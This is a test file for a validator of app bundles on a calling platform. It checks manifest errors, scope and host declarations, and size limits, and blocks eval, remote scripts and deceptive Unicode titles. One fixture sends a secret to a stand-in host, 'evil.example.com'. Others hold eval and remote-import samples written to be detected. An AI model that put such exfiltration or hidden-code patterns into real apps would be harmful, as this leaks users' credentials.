import { expect, it } from "vitest";
import { checkBundle } from "./check-bundle.ts";

const MANIFEST = {
  id: "call-notes",
  name: "Call notes",
  version: "1.0.0",
  scopes: ["objects:note"],
  ui: { entry: "index.js", pages: [{ id: "panel", title: "Notes" }] },
};
const SCRIPT = 'const rows = await window.platform.data.list("note");';

function check(
  {
    manifest = {},
    ui = {},
    files = {},
  }: { manifest?: object; ui?: object; files?: Record<string, string> } = {},
  script = SCRIPT,
) {
  const text = JSON.stringify({ ...MANIFEST, ...manifest, ui: { ...MANIFEST.ui, ...ui } }, null, 2);
  const all = { "platform.app.json": text, "index.js": script, ...files };
  const bytes = Object.entries(all).map(([path, body]): [string, Uint8Array] => [
    path,
    new TextEncoder().encode(body),
  ]);
  return checkBundle(new Map(bytes));
}
const codes = (...given: Parameters<typeof check>): string[] =>
  check(...given).problems.map(({ code }) => code);

it("says nothing about an app that is right", () => {
  expect(check()).toMatchObject({ problems: [], isPublishable: true, manifest: { id: "call-notes" } });
});

it("refuses an unknown kind, surface and slot with the line of the manifest", () => {
  const wrong = { id: "x", kind: "banner", surface: "home", label: "X", pageId: "panel" };
  const { problems, isPublishable } = check({ ui: { contributions: [wrong] } });
  expect(isPublishable).toBe(false);
  expect(problems.map(({ code }) => code)).toEqual(["MANIFEST_INVALID", "MANIFEST_INVALID"]);
  expect(problems[0]?.message).toContain("ui.contributions.0.kind");
  const lines = JSON.stringify(
    { ...MANIFEST, ui: { ...MANIFEST.ui, contributions: [wrong] } },
    null,
    2,
  ).split("\n");
  expect(lines[(problems[0]?.line ?? 0) - 1]).toContain('"banner"');
  expect(lines[(problems[1]?.line ?? 0) - 1]).toContain('"home"');
});

it("refuses a contribution that is there twice, has no label, or opens a page that does not exist", () => {
  const one = { id: "x", kind: "list_action", surface: "calls_list", label: "X", pageId: "panel" };
  expect(codes({ ui: { contributions: [one, one] } })).toEqual(["CONTRIBUTION_DUPLICATE"]);
  expect(codes({ ui: { contributions: [{ ...one, label: undefined }] } })).toEqual(["MANIFEST_INVALID"]);
  expect(codes({ ui: { contributions: [{ ...one, pageId: "gone" }] } })).toEqual(["PAGE_UNKNOWN"]);
  expect(codes({ ui: { contributions: [{ ...one, pageId: undefined }] } })).toEqual([
    "CONTRIBUTION_PAGE_MISSING",
  ]);
});

it("names the line of each contribution that is refused", () => {
  const one = { id: "x", kind: "list_action", surface: "calls_list", label: "X", pageId: "panel" };
  const lineOf = (...contributions: object[]) => {
    const { problems } = check({ ui: { contributions } });
    const text = JSON.stringify({ ...MANIFEST, ui: { ...MANIFEST.ui, contributions } }, null, 2).split("\n");
    return problems.map(({ file, line = 0 }) => [file, text[line - 1]?.trim()]);
  };
  const at = (line: string) => [["platform.app.json", expect.stringContaining(line)]];
  expect(lineOf({ ...one, id: "first" }, { ...one, id: "second", kind: "banner" })).toEqual(at('"banner"'));
  expect(lineOf({ ...one, id: "first" }, { ...one, surface: "home" })).toEqual(at('"home"'));
  expect(lineOf(one, { ...one, label: "Again" })).toEqual(at('"id": "x"'));
  expect(lineOf({ ...one, label: undefined })).toEqual(at("{"));
  expect(lineOf({ ...one, label: " " })).toEqual(at('"label": " "'));
  expect(lineOf({ ...one, pageId: "gone" })).toEqual(at("{"));
});

it("warns of what is installed but not drawn, and publishes it", () => {
  const column = { id: "c", kind: "column", surface: "calls_list", label: "Notes" };
  const report = check({ ui: { contributions: [column] } });
  expect(report.isPublishable).toBe(true);
  expect(report.problems).toMatchObject([{ code: "CONTRIBUTION_UNRENDERED", severity: "warning" }]);
});

it("says nothing of an icon that is none of the 27, which is drawn as a box", () => {
  const pages = [{ id: "panel", title: "Panel", icon: "rocket" }];
  const extensions = [{ slot: "dashboard_widget", page_id: "panel", title: "Panel", icon: "rocket" }];
  expect(codes({ ui: { pages, extensions } })).toEqual([]);
});

it("refuses words that the dashboard would draw as somebody else's, or not at all", () => {
  const page = (title: string) => codes({ ui: { pages: [{ id: "panel", title }] } });
  for (const title of ["two\nlines", "a\u202eb", "\u2066x", "\u200b", "\u3164", "\u0007x"])
    expect(page(title), JSON.stringify(title)).toEqual(["MANIFEST_INVALID"]);
  for (const title of ["Anrufe – ☎️", "通話", "مكالمات\u200f", "👩‍💻", "x".repeat(60)])
    expect(page(title), title).toEqual([]);
  const settings = [{ key: "a", label: "a\tb", type: "text" }];
  const contributions = [
    { id: "x", kind: "list_action", surface: "calls_list", label: "L\u202e", pageId: "panel" },
  ];
  const { problems } = check({ manifest: { name: "\u200bN\u202d", settings }, ui: { contributions } });
  expect(problems.map(({ message }) => message.split(" ")[0])).toEqual([
    ...["name", "ui.contributions.0.label", "settings.0.label"],
  ]);
  expect(codes({ manifest: { description: "Two\nparagraphs" } })).toEqual([]);
});

it("refuses a manifest that no database keeps, nests without end or is larger than half a MB", () => {
  const deep = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
  const nested = JSON.stringify(MANIFEST).replace('"ui"', `"agents":[{"config":{"x":${deep}}}],"ui"`);
  expect(checkBundle(new Map([["platform.app.json", new TextEncoder().encode(nested)]]))).toMatchObject({
    isPublishable: false,
    problems: [{ code: "MANIFEST_INVALID", message: expect.stringContaining("32 deep") }],
  });
  for (const name of ["a\0b", "half \ud800"])
    expect(check({ manifest: { name } }).problems).toMatchObject([
      { code: "MANIFEST_INVALID", message: expect.stringContaining("name has a text with NUL") },
    ]);
  const agents = (chars: number) => [{ id: "a", name: "A", config: { prompt: "x".repeat(chars) } }];
  expect(codes({ manifest: { agents: agents(523_000) } })).toEqual([]);
  expect(codes({ manifest: { agents: agents(525_000) } })).toEqual(["BUNDLE_TOO_LARGE"]);
});

it("refuses a version with two names, a scope that is there twice, and names a field that it does not know", () => {
  expect(codes({ manifest: { version: "1.02.0" } })).toEqual(["MANIFEST_INVALID"]);
  expect(check({ manifest: { scopes: ["objects:note", "objects:note"] } }).problems).toMatchObject([
    { code: "MANIFEST_INVALID", message: "scopes.1 repeats objects:note" },
  ]);
  expect(check({ manifest: { author: "me" } }).problems).toMatchObject([
    { code: "MANIFEST_INVALID", message: "author is not a known field", line: 17 },
  ]);
});

it("says in plain words what is wrong with a field, and where", () => {
  const said = (manifest: object, ui: object = {}) =>
    check({ manifest, ui }).problems.map(({ line, message }) => [line, message]);
  expect(said({ name: undefined, id: 7, scopes: "objects:note" })).toEqual([
    [2, "id must be a string"],
    [1, "name is required"],
    [4, "scopes must be a list"],
  ]);
  const pages = [
    { id: "panel", title: "" },
    { id: "other", title: "x".repeat(61), menu: "yes" },
  ];
  const extensions = [{ slot: "home", page_id: "panel", title: "Home", tint: "red" }];
  expect(said({}, { entry: "index.ts", pages, extensions })).toEqual([
    [9, "ui.entry must be a .js file"],
    [13, "ui.pages.0.title must not be empty"],
    [17, "ui.pages.1.title must have at most 60 characters"],
    [18, "ui.pages.1.menu must be true or false"],
    [23, expect.stringMatching(/^ui\.extensions\.0\.slot must be one of call_detail_panel, /)],
    [26, "ui.extensions.0.tint is not a known field"],
  ]);
  expect(said({}, { pages: [] })).toEqual([[10, "ui.pages must not be empty"]]);
  const settings = [{ key: "a", label: "A", type: "text", default: 5 }];
  expect(said({ settings })).toEqual([[22, "settings.0.default must be a string or true or false"]]);
});

it("names the place of what concerns no line of a script", () => {
  const places = (...given: Parameters<typeof check>) =>
    check(...given).problems.map(({ code, file, line }) => [code, file, line]);
  expect(places({ ui: { entry: "main.js" } })).toEqual([["ENTRY_MISSING", "platform.app.json", 9]]);
  expect(places({ ui: { styles: "index.css" } })).toEqual([["STYLES_MISSING", "platform.app.json", 16]]);
  expect(places({ manifest: { scopes: ["objects:note", "calls:read"] } })).toEqual([
    ["SCOPE_UNUSED", "platform.app.json", 7],
  ]);
  expect(places({}, `${SCRIPT}\n\nsend("{{secret:key}}");`)).toEqual([["SECRET_UNKNOWN", "index.js", 3]]);
  expect(places({}, "const a = 1;\nconst = ;")).toEqual([
    ["SCRIPT_UNREADABLE", "index.js", 2],
    expect.anything(),
  ]);
  const broken = new Map([["platform.app.json", new TextEncoder().encode('{\n  "id": "a",\n}')]]);
  expect(checkBundle(broken).problems).toMatchObject([{ code: "MANIFEST_INVALID", line: 3 }]);
});

it("says of a zipped folder where its manifest is", () => {
  const within = new Map([["my-app/platform.app.json", new TextEncoder().encode("{}")]]);
  expect(checkBundle(within).problems).toMatchObject([
    { code: "MANIFEST_MISSING", message: expect.stringContaining("zip what is in my-app/") },
  ]);
});

it("takes what is at a limit, and refuses what is one above it", () => {
  const files = (count: number) =>
    Object.fromEntries(Array.from({ length: count }, (_, i) => [`f${i}.txt`, "x"]));
  expect(codes({ files: files(498) })).toEqual([]);
  expect(codes({ files: files(499) })).toEqual(["BUNDLE_TOO_LARGE"]);
  const path = (chars: number) => codes({ files: { [`${"a".repeat(chars - 4)}.txt`]: "x" } });
  expect([path(200), path(201)]).toEqual([[], ["FILE_REFUSED"]]);
  const bytes = (count: number) => codes({ files: { "a.txt": "x".repeat(count) } });
  expect([bytes(10 * 1024 ** 2), bytes(10 * 1024 ** 2 + 1)]).toEqual([[], ["BUNDLE_TOO_LARGE"]]);
});

it("wants the files that the manifest names, and no others than a frame loads", () => {
  expect(codes({ ui: { entry: "main.js" } })).toEqual(["ENTRY_MISSING"]);
  expect(codes({ ui: { styles: "index.css" } })).toEqual(["STYLES_MISSING"]);
  expect(codes({ files: { "index.css": "p {}" } })).toEqual(["STYLES_UNDECLARED"]);
  expect(codes({ ui: { styles: "index.css" }, files: { "index.css": "p {}" } })).toEqual([]);
  expect(codes({ files: { "page.html": "<script>" } })).toEqual(["FILE_REFUSED"]);
  expect(codes({ files: { "../x.js": "1" } })).toEqual(["FILE_REFUSED"]);
  expect(checkBundle(new Map()).problems).toMatchObject([{ code: "MANIFEST_MISSING" }]);
});

it("tells a method whose scope is not declared, with its place", () => {
  const script = `${SCRIPT}\nplatform.calls.history({});\nplatform.data.create("task", {});`;
  expect(check({}, script).problems).toMatchObject([
    {
      code: "SCOPE_MISSING",
      file: "index.js",
      line: 2,
      column: 1,
      message: expect.stringContaining("calls:read"),
    },
    { code: "SCOPE_MISSING", line: 3, message: expect.stringContaining("objects:task") },
  ]);
});

it("tells the scopes that a call needs for its connection, its capability or the groups it changes", () => {
  const manifest = { scopes: ["objects:note", "http:api.hubapi.com", "agents:config:write:prompt"] };
  const script = `${SCRIPT}
    platform.http.fetch({ url: "https://api.hubapi.com/x", connection: "hubspot" });
    platform.connector.invoke("calendar.book", {});
    platform.agents.updateConfig(id, { prompt: {}, voice: {} });`;
  const missing = check({ manifest }, script).problems.map(({ code, line, message }) => [
    code,
    line,
    message,
  ]);
  expect(missing).toEqual(
    [
      [2, "http.fetch", "connection:hubspot"],
      [3, "connector.invoke", "connection:<provider>"],
      [4, "agents.updateConfig", "agents:config:write:voice"],
    ].map(([line, method, scope]) => [
      ...["SCOPE_MISSING", line],
      `${method} needs scope ${scope}, which the manifest does not have.`,
    ]),
  );
  const granted = { scopes: [...manifest.scopes, "connection:hubspot", "agents:config:write:voice"] };
  expect(codes({ manifest: granted }, script)).toEqual([]);
});

it("tells a scope that is declared and never used", () => {
  const manifest = { scopes: ["objects:note", "calls:read", "user:profile", "http:api.example.com"] };
  const { problems } = check({ manifest });
  expect(problems.map(({ code, message }) => [code, /Scope (\S+)/.exec(message)?.[1]])).toEqual([
    ["SCOPE_UNUSED", "calls:read"],
    ["SCOPE_UNUSED", "http:api.example.com"],
  ]);
});

it("finds methods whose namespace has a name of its own, wherever that name stands for it", () => {
  const manifest = { scopes: ["objects:note", "files:read", "files:write", "calls:read", "agents:read"] };
  const script = `${SCRIPT}
    function Panel() { const { files, calls: c } = usePlatform(); return () => [files.put("a", "b"), c?.history({})]; }
    const f = window.platform.files; f.list();
    const { data: { create }, agents: { list } } = window.platform; create("note", {}); list();`;
  expect(check({ manifest }, script).problems).toEqual([]);
  const undeclared = `${SCRIPT}
    const { files: e } = t(); function other(e) { e.put("a"); } { let e = 1; e.get("a"); }
    e.delete("a");`;
  expect(check({}, undeclared).problems).toMatchObject([
    {
      code: "SCOPE_MISSING",
      line: 3,
      message: expect.stringContaining("files.delete needs scope files:write"),
    },
  ]);
  // Of what only has the name of a namespace, other methods are its own.
  expect(codes({}, `${SCRIPT} const { session } = useLogin(); session.refresh();`)).toEqual([]);
});

it("tells a host that is not on the list, and knows those that are", () => {
  const manifest = { scopes: ["objects:note", "http:*.zendesk.com"] };
  const script = `${SCRIPT}
    platform.http.fetch({ url: \`https://acme.zendesk.com/api/\${id}\` });
    platform.http.fetch({ url: "https://evil.example.com/" + secret });`;
  expect(check({ manifest }, script).problems).toMatchObject([
    { code: "HOST_NOT_LISTED", line: 3, message: expect.stringContaining("evil.example.com") },
  ]);
});

it("tells eval, functions of text, remote scripts and a network that is not there", () => {
  const script = `${SCRIPT}
    eval("1"); new Function("return 1"); window.eval("2");
    import("https://cdn.example.com/x.js");
    fetch("/x"); new WebSocket("wss://x"); navigator.sendBeacon("https://x"); window.open("https://x");
    const fine = { eval() {}, fetch() {} }; fine.fetch(); store.eval();`;
  expect(codes({}, script)).toEqual([
    ...["EVAL_USED", "EVAL_USED", "EVAL_USED", "REMOTE_SCRIPT"],
    ...["NETWORK_BLOCKED", "NETWORK_BLOCKED", "NETWORK_BLOCKED", "POPUP_USED"],
  ]);
  const aliased = `${SCRIPT}
    (0, eval)("1"); setTimeout("x()", 1); self.open(x); open("https://x.example/" + x);
    setTimeout(() => open(dialog), 1); menu.open("https://x.example");`;
  expect(codes({}, aliased)).toEqual(["EVAL_USED", "EVAL_USED", "POPUP_USED", "POPUP_USED"]);
  const files = { "a.css": '@import "https://x.example/a.css";\nb { background: url(//x.example/i.png) }' };
  expect(check({ files }).problems).toMatchObject([
    { code: "REMOTE_RESOURCE", line: 1 },
    { code: "REMOTE_RESOURCE", line: 2 },
  ]);
});

it("holds settings to their types, and secrets to declared hosts", () => {
  const settings = (...all: object[]) => codes({ manifest: { settings: all } });
  expect(settings({ key: "a", label: "A", type: "boolean", default: "yes" })).toEqual([
    "SETTING_DEFAULT_INVALID",
  ]);
  expect(settings({ key: "a", label: "A", type: "secret", default: "x" })).toEqual([
    "SETTING_DEFAULT_INVALID",
  ]);
  expect(settings({ key: "a", label: "A", type: "text" }, { key: "a", label: "B", type: "text" })).toEqual([
    "SETTING_DUPLICATE",
  ]);
  expect(settings({ key: "a", label: "A", type: "secret", hosts: ["api.example.com"] })).toEqual([
    "HOST_UNKNOWN",
  ]);
});

it("refuses a script and a manifest that cannot be read", () => {
  expect(codes({}, "const = ;")).toContain("SCRIPT_UNREADABLE");
  expect(codes({}, `x${".a()".repeat(100_000)}`)).toContain("SCRIPT_UNREADABLE");
  const broken = new Map([["platform.app.json", new TextEncoder().encode("{")]]);
  expect(checkBundle(broken).problems).toMatchObject([{ code: "MANIFEST_INVALID" }]);
});
